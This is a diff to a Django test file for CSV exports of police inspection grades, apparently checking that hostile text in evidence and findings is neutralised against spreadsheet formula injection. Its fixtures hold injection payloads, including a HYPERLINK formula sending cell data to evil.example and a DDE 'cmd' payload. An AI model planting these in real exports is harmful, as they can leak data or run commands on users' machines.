@@ -11,11 +11,22 @@ from django.urls import reverse
 from hypothesis import given
 from hypothesis import strategies as st
 
-from forces.models import Force
 from reports.exports import services as exports
 from reports.facts.services import grades_load
-from reports.models import AreaForImprovement, CauseOfConcern, Grade, Question, Recommendation, Report, Round
+from reports.models import Grade, Question, Round
 from reports.vocabulary import GradeStatus, Tier
+from tests.factories import (
+    AreaForImprovementFactory,
+    CauseOfConcernFactory,
+    FiveTierRoundFactory,
+    ForceFactory,
+    GradeFactory,
+    QuestionFactory,
+    RecommendationFactory,
+    ReportFactory,
+    RoundFactory,
+    ThemeFactory,
+)
 
 HOSTILE_TEXTS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -51,6 +62,35 @@ def download(client, url: str) -> bytes:
     assert response.streaming
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     return b"".join(response.streaming_content)
+
+
+@pytest.fixture
+def grades(db) -> dict[str, Grade]:
+    """Two forces graded in 2015, 2016 (four tiers) and 2021/22 (five tiers): every tier, every status that
+    is not a tier, a carried-over judgment, awkward and hostile evidence, a partly comparable theme."""
+    north = ForceFactory(name="Northshire Police", slug="northshire")
+    south = ForceFactory(name="Southshire Police", slug="southshire")
+    theme = ThemeFactory(name="Investigating crime")
+    overall = QuestionFactory(overall=True)
+    e1 = QuestionFactory(code="E1", short_name="Preventing crime, tackling ASB and keeping people safe")
+    e2 = QuestionFactory(code="E2", short_name="Investigating crime", theme=theme)
+    area = QuestionFactory(round=FiveTierRoundFactory(), short_name="Investigating crime", theme=theme, theme_partial=True)
+    other_area = QuestionFactory(round=FiveTierRoundFactory(), short_name="Protecting vulnerable people")
+    overall_2015 = QuestionFactory(round=RoundFactory(slug="2015"), overall=True)
+    return {
+        "north 2015": GradeFactory(force=north, question=overall_2015, tier=Tier.REQUIRES_IMPROVEMENT),
+        "north overall": GradeFactory(force=north, question=overall, tier=Tier.INADEQUATE, evidence=AWKWARD_TEXTS[3]),
+        "south overall": GradeFactory(force=south, question=overall, tier=Tier.OUTSTANDING, evidence=HOSTILE_TEXTS[2]),
+        "north e1": GradeFactory(
+            force=north, question=e1, tier=Tier.GOOD, carried_over=True, evidence="E1 carried over from 2015; “good”, £0"
+        ),
+        "south e1": GradeFactory(force=south, question=e1, status=GradeStatus.UNGRADED, tier=None),
+        "north e2": GradeFactory(force=north, question=e2, status=GradeStatus.NOT_GRADED, tier=None),
+        "south e2": GradeFactory(force=south, question=e2, status=GradeStatus.NOT_INSPECTED, tier=None),
+        "north area": GradeFactory(force=north, question=area, tier=Tier.ADEQUATE, evidence=AWKWARD_TEXTS[1]),
+        "south area": GradeFactory(force=south, question=area, tier=Tier.REQUIRES_IMPROVEMENT),
+        "north other area": GradeFactory(force=north, question=other_area, tier=Tier.OUTSTANDING),
+    }
 
 
 @pytest.fixture
@@ -146,7 +186,7 @@ def test_an_xlsx_export_stores_hostile_text_as_text_never_as_a_formula():
 # --- the grades dataset ---------------------------------------------------------------------
 
 
-@pytest.mark.usefixtures("peel_data")
+@pytest.mark.usefixtures("grades")
 class TestGradesCsv:
     def test_every_grade_is_exported_once_with_the_documented_columns(self, client, fixed_day):
         response = client.get(reverse("exports:grades_csv"))
@@ -177,7 +217,7 @@ class TestGradesCsv:
             assert grade.question.round.grade_word_parse(row["grade"]) == (grade.status, grade.tier)
             assert row["grade_order"] == ("" if grade.tier is None else str(grade.tier))
             assert row["carried_over"] == ("yes" if grade.carried_over else "no")
-            assert row["evidence"] == grade.evidence
+            assert exports.cell_restore(row["evidence"]) == grade.evidence
         assert {row["grade"] for row in rows} >= {tier.label for tier in Tier} | {"Not graded", "Not inspected", "Ungraded"}
 
     def test_the_question_column_is_the_label_people_cite(self, client):
@@ -185,6 +225,7 @@ class TestGradesCsv:
         rows = read_csv(download(client, reverse("exports:grades_csv")))
         assert {row["question_or_area"] for row in rows} <= labels
         assert "E1 Preventing crime, tackling ASB and keeping people safe" in {row["question_or_area"] for row in rows}
+        assert "Overall effectiveness" in {row["question_or_area"] for row in rows}  # no OVERALL code
 
     def test_themes_and_partial_comparability_are_exported(self, client):
         rows = read_csv(download(client, reverse("exports:grades_csv")))
@@ -195,6 +236,7 @@ class TestGradesCsv:
         assert (row["theme"], row["theme_name"], row["theme_partial"]) == (question.theme.slug, question.theme.name, "yes")
 
     def test_an_export_uploads_back_through_the_grade_loader_unchanged(self, client, tmp_path):
+        assert Grade.objects.filter(carried_over=True).exists() and Grade.objects.exclude(evidence="").exists()
         before = list(
             Grade.objects.order_by("pk").values("force", "question", "status", "tier", "carried_over", "source_url", "evidence")
         )
@@ -211,8 +253,8 @@ class TestGradesCsv:
         )
         assert after == before
 
-    def test_hostile_evidence_is_neutralised_and_can_be_restored(self, client):
-        grade = Grade.objects.select_related("force").first()
+    def test_hostile_evidence_is_neutralised_and_can_be_restored(self, client, grades):
+        grade = grades["north e2"]
         grade.evidence = HOSTILE_TEXTS[0]
         grade.save()
         rows = read_csv(download(client, reverse("exports:force_grades_csv", kwargs={"slug": grade.force.slug})))
@@ -220,15 +262,16 @@ class TestGradesCsv:
         assert row["evidence"] == "'" + HOSTILE_TEXTS[0]
         assert exports.cell_restore(row["evidence"]) == grade.evidence
 
-    def test_one_forces_summary_holds_its_whole_history_and_nothing_else(self, client, fixed_day):
-        force = Force.objects.get(slug="bedfordshire")
+    def test_one_forces_summary_holds_its_whole_history_and_nothing_else(self, client, grades, fixed_day):
+        force = grades["north overall"].force
         response = client.get(reverse("exports:force_grades_csv", kwargs={"slug": force.slug}))
-        assert response["Content-Disposition"] == 'attachment; filename="peel-grades-bedfordshire-2026-11-23.csv"'
+        assert response["Content-Disposition"] == 'attachment; filename="peel-grades-northshire-2026-11-23.csv"'
         rows = read_csv(b"".join(response.streaming_content))
-        assert len(rows) == force.grades.count() > 0
-        assert {row["force_slug"] for row in rows} == {"bedfordshire"}
+        assert len(rows) == force.grades.count() == 6
+        assert {row["force_slug"] for row in rows} == {"northshire"}
         positions = dict(Round.objects.values_list("name", "position"))
-        assert [positions[row["round"]] for row in rows] == sorted(positions[row["round"]] for row in rows)
+        assert [row["round"] for row in rows] == sorted((row["round"] for row in rows), key=positions.get)
+        assert [row["round"] for row in rows][0] == "2015"
 
     def test_an_unknown_force_has_no_summary(self, client):
         assert client.get("/forces/gotham/summary.csv").status_code == 404
@@ -239,25 +282,25 @@ class TestGradesCsv:
 
 
 @pytest.fixture
-def bedfordshire_findings(peel_data):
-    """A report with hostile and awkward finding texts: two causes (one with recommendations) and an area for improvement."""
-    # Dorset: the shipped data already holds Bedfordshire's 2016 effectiveness report (imported from its text).
-    force = Force.objects.get(slug="dorset")
-    round_ = Round.objects.get(slug="2016")
-    question = Question.objects.get(round=round_, code="E3")
-    report = Report.objects.create(
-        force=force,
-        round=round_,
+def bedfordshire_findings(db):
+    """A report with hostile and awkward finding texts: two causes (one with recommendations) and an area for
+    improvement; another force's report first, and a force with none."""
+    question = QuestionFactory(code="E3", short_name="Protecting vulnerable people and supporting victims")
+    ForceFactory(slug="kent")
+    AreaForImprovementFactory(report__force__name="Avon and Somerset Constabulary", report__round=question.round)
+    report = ReportFactory(
+        force=ForceFactory(name="Dorset Police", slug="dorset"),
+        round=question.round,
         pillar="Effectiveness",
         title="PEEL: Police effectiveness 2016 – Dorset Police",
         published=date(2017, 3, 2),
         source_url="https://www.justiceinspectorates.gov.uk/hmicfrs/publications/peel-police-effectiveness-2016-dorset/",
     )
-    first = CauseOfConcern.objects.create(report=report, question=question, position=1, text='=HYPERLINK("http://evil.example")')
-    Recommendation.objects.create(cause=first, position=1, text="-2+3+cmd|' /C calc'!A0")
-    Recommendation.objects.create(cause=first, position=2, text="Improve, within “three months”,\nthe response to £5 – frauds")
-    CauseOfConcern.objects.create(report=report, question=None, position=2, text="@SUM(1+1)")
-    AreaForImprovement.objects.create(report=report, question=question, position=1, text="+ review the\r\nplan")
+    first = CauseOfConcernFactory(report=report, question=question, position=1, text='=HYPERLINK("http://evil.example")')
+    RecommendationFactory(cause=first, position=1, text="-2+3+cmd|' /C calc'!A0")
+    RecommendationFactory(cause=first, position=2, text="Improve, within “three months”,\nthe response to £5 – frauds")
+    CauseOfConcernFactory(report=report, question=None, position=2, text="@SUM(1+1)")
+    AreaForImprovementFactory(report=report, question=question, position=1, text="+ review the\r\nplan")
     return report
 
 
@@ -303,8 +346,7 @@ def test_a_force_with_no_findings_gets_a_file_with_just_the_header(client, bedfo
 # --- the documentation page -----------------------------------------------------------------
 
 
-@pytest.mark.usefixtures("peel_data")
-def test_the_data_page_documents_every_column_the_encoding_and_the_licence(client):
+def test_the_data_page_documents_every_column_the_encoding_and_the_licence(client, grades):
     response = client.get(reverse("exports:data"))
     assert response.status_code == 200
     html = response.content.decode()
@@ -319,5 +361,5 @@ def test_the_data_page_documents_every_column_the_encoding_and_the_licence(clien
         "OWASP",
     ):
         assert needed in html
-    assert 'href="/data/grades.csv"' in html and 'href="/forces/bedfordshire/summary.csv"' in html
-    assert f"{Grade.objects.count()} rows" in html
+    assert 'href="/data/grades.csv"' in html and 'href="/forces/northshire/summary.csv"' in html
+    assert "10 rows" in html
